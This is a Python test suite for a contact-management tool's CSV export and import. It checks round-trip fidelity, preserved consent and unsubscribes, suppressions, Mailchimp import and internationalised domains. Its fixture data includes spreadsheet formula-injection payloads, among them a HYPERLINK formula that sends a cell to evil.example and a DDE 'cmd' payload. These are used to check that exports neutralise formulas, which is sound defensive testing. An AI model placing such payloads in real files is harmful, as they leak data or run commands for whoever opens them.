"""An export, imported: nothing changes where it came from, and everything is there where it was not."""

import csv
import io
from contextlib import closing
from pathlib import Path

import pytest

from postlude.model.words import Consent, MemberStatus, MessagePurpose, Purpose
from postlude.services.contacts import contacts as service
from postlude.services.contacts import suppressions
from postlude.store import Store, open_store
from support.present import present
from support.state_template import sqlite_state

from .conftest import CLOCK, Write, imported

FIELDS = {
    "note": "line one\r\nline two",
    "path": "C:\\dir\\",
    "formula": '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "phone": "+49 30 1234",
    "sum": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1)",
    "tab": "\tTab",
    "blanks": "  kept  ",
    "quoted": "'=already",
    "parts": "a,b;c\td|e",
    "first_name": "Zoë",
}
NAMES = ['Sam "The Man" Roe', 'back\\"slash', "ends with \\", '=HYPERLINK("x")', "Zoë Ünïcode", ""]
LISTS = ["News, weekly", "Fair"]
TAGS = ["VIP, Gold", 'a "b"', "plain", "=1+1"]


@pytest.fixture
def exported(store: Store) -> str:
    lists = [store.lists.add(each, CLOCK.now()).id for each in LISTS]
    for number, name in enumerate(NAMES):
        made = store.contacts.add(f"c{number}@xn--mnchen-3ya.example", CLOCK.now(), name=name, fields=FIELDS)
        for tag in TAGS:
            store.contacts.tag_contact(store.contacts.tag(tag), made.id)
        for wanted in lists:
            store.lists.put_member(wanted, made.id, MemberStatus.SUBSCRIBED, CLOCK.now())
        state = Consent.WITHDRAWN if number % 2 else Consent.GIVEN
        store.contacts.record_consent(made.id, {Purpose.MAIL: state}, CLOCK.now(), how="by hand", source="a card")
    return export(store)


def export(store: Store) -> str:
    out = io.StringIO(newline="")
    service.export_contacts(store, out)
    return out.getvalue()


def test_where_it_came_from_nothing_changes(store: Store, exported: str, written: Write) -> None:
    job = imported(store, written(exported.encode()))
    assert job.counts == {"rows": len(NAMES), "unchanged": len(NAMES)}
    assert export(store) == exported


def test_elsewhere_people_are_as_they_were(exported: str, written: Write, tmp_path: Path, store: Store) -> None:
    del store
    other = open_store(sqlite_state(tmp_path, "other.sqlite"))
    imported(other, written(exported.encode()))
    found = {one.spelled: one for one in other.contacts.page()}
    for number, name in enumerate(NAMES):
        one = found[f"c{number}@xn--mnchen-3ya.example"]
        assert one.name == name
        assert one.fields == FIELDS
        assert sorted(other.contacts.tags_of([one.id])[one.id]) == sorted(TAGS)
    assert sorted(export(other).split("\r\n")) == sorted(exported.split("\r\n"))
    other.close()


def test_who_left_or_withdrew_since_stays_as_they_are(store: Store, exported: str, written: Write) -> None:
    one = store.contacts.by_address("c0@xn--mnchen-3ya.example")
    assert one is not None
    [fair] = [each for each in store.lists.every() if each.name == "Fair"]
    store.lists.put_member(fair.id, one.id, MemberStatus.UNSUBSCRIBED, CLOCK.now())
    withdrawn = {Purpose.MAIL: Consent.WITHDRAWN}
    store.contacts.record_consent(one.id, withdrawn, CLOCK.now(), how="by hand", source="a letter")
    before = export(store)
    imported(store, written(exported.encode()))
    assert export(store) == before


def test_who_left_everything_is_not_subscribed_by_a_file(store: Store, exported: str, written: Write) -> None:
    one = store.contacts.by_address("c0@xn--mnchen-3ya.example")
    assert one is not None
    for each in store.lists.every():
        store.lists.put_member(each.id, one.id, MemberStatus.UNSUBSCRIBED, CLOCK.now())
    imported(store, written(exported.replace("Fair", "Another list").encode()))
    assert {each.status for each in store.lists.memberships(one.id)} == {MemberStatus.UNSUBSCRIBED}


def test_a_trial_writes_nothing_of_it(exported: str, written: Write, tmp_path: Path) -> None:
    other = open_store(sqlite_state(tmp_path, "other.sqlite"))
    imported(other, written(exported.encode(), dry_run=True))
    assert other.contacts.count() == 0
    assert other.lists.every() == []
    other.close()


def test_no_cell_of_an_export_is_a_formula(exported: str) -> None:
    assert not [
        cell for line in exported.split("\r\n") for cell in line.split(",") if cell.strip('"')[:1] in set("=+-@")
    ]


def test_suppressions_come_back_as_they_were(store: Store, tmp_path: Path) -> None:
    suppressions.suppress(store, CLOCK, "+tag@example.org", by="=cmd", note="=1+1")
    out = io.StringIO(newline="")
    suppressions.export_suppressions(store, out)
    assert "'+tag@example.org" in out.getvalue()
    store.suppressions.remove("+tag@example.org")
    file = tmp_path / "list.csv"
    file.write_text(out.getvalue(), newline="")
    suppressions.import_suppressions(store, CLOCK, file, "carol")
    assert store.suppressions.get("+tag@example.org") is not None


MAILCHIMP = (
    "Email Address,First Name,Last Name,Birthday,MEMBER_RATING,OPTIN_TIME,TIMEZONE,CC,LEID,EUID,NOTES,TAGS\n"
    'max@mail.example,Max,Moritz,06/13,4,"2024-02-12 17:59:31",europe/zurich,ch,33996391,8b66,,'
    '"""Newsletter"",""VIP, Gold"""\n'
)


def test_an_audience_of_mailchimp_keeps_its_people_and_loses_its_bookkeeping(store: Store, written: Write) -> None:
    imported(store, written(MAILCHIMP))
    max_ = store.contacts.by_address("max@mail.example")
    assert max_ is not None
    assert max_.name == "Max Moritz"
    assert max_.time_zone == "Europe/Zurich"
    assert max_.fields == {"first_name": "Max", "last_name": "Moritz", "birthday": "06/13"}
    assert sorted(store.contacts.tags_of([max_.id])[max_.id]) == ["Newsletter", "VIP, Gold"]


@pytest.mark.parametrize("typed", ["info@münchen.example", "INFO@MÜNCHEN.EXAMPLE", "info@xn--mnchen-3ya.example"])
def test_two_spellings_of_a_domain_are_one_contact(store: Store, written: Write, typed: str) -> None:
    store.contacts.add("info@xn--mnchen-3ya.example", CLOCK.now())
    assert "added" not in imported(store, written(f"email\n{typed}\n")).counts
    assert store.contacts.by_address(typed) is not None


@pytest.mark.parametrize("search", ["münchen", "MÜNCH", "info@münch", "info@münchen.example", "xn--mnchen"])
def test_a_contact_and_a_suppression_are_found_as_they_are_shown(store: Store, search: str) -> None:
    store.contacts.add("info@xn--mnchen-3ya.example", CLOCK.now())
    store.contacts.add("other@example.org", CLOCK.now())
    suppressions.suppress(store, CLOCK, "info@münchen.example", by="carol")
    assert [one.address for one in store.contacts.page(search)] == ["info@xn--mnchen-3ya.example"]
    assert store.contacts.count(search) == 1
    assert [one.address for one in store.suppressions.latest(search=search)] == ["info@xn--mnchen-3ya.example"]


def test_who_had_left_mailings_gets_none_by_the_file(store: Store, written: Write, tmp_path: Path) -> None:
    news = store.lists.add("News", CLOCK.now())
    gone, left, back = (store.contacts.add(f"{name}@x.example", CLOCK.now()) for name in ("gone", "left", "back"))
    store.suppressions.add(gone.address, "unsubscribed", at=CLOCK.now())
    store.lists.put_member(news.id, left.id, MemberStatus.UNSUBSCRIBED, CLOCK.now())
    store.suppressions.add(back.address, "unsubscribed", at=CLOCK.now())
    file = written(export(store).encode())
    store.suppressions.remove(back.address)
    assert imported(store, file).counts["ended"] == 1
    assert present(store.suppressions.get(back.address)).reason == "unsubscribed"
    assert store.suppressions.get(left.address) is None  # what they left here is known
    with closing(open_store(f"sqlite:///{tmp_path}/other.sqlite")) as other:
        imported(other, file)
        ended = other.contacts.why_not([one.address for one in (gone, left, back)], MessagePurpose.MAILING)
    assert set(ended) == {"gone@x.example", "left@x.example", "back@x.example"}


def test_an_export_of_before_is_known(store: Store, exported: str, written: Write) -> None:
    rows = list(csv.reader(io.StringIO(exported.removeprefix("\ufeff"))))
    at = rows[0].index("mailings")
    out = io.StringIO(newline="")
    csv.writer(out).writerows([row[:at] + row[at + 1 :] for row in rows])
    assert imported(store, written(out.getvalue().encode())).counts == {"rows": len(NAMES), "unchanged": len(NAMES)}
